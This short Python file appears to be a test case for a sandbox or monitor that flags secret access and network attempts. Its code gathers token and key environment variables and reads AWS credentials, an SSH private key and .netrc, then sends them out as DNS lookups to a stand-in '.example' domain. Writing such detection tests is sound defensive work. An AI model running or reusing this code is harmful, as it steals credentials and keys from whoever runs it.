"""Sends what looks like a key out as a name to look up."""

# group: secrets
# status: passed
# network: true
# rules: [canary-touched, network-attempt]

import binascii
import os
import socket

KEYS = [value for name, value in os.environ.items() if name.endswith(("TOKEN", "KEY", "KEY_ID"))]
for path in ("~/.aws/credentials", "~/.ssh/id_rsa", "~/.netrc"):
    try:
        KEYS.append(open(os.path.expanduser(path)).read())
    except OSError:
        pass
for key in KEYS:
    label = binascii.hexlify(key.strip().encode())[:60].decode()
    try:
        socket.getaddrinfo(f"{key[:40].strip()}.{label}.example", 80)
    except (OSError, UnicodeError):
        pass
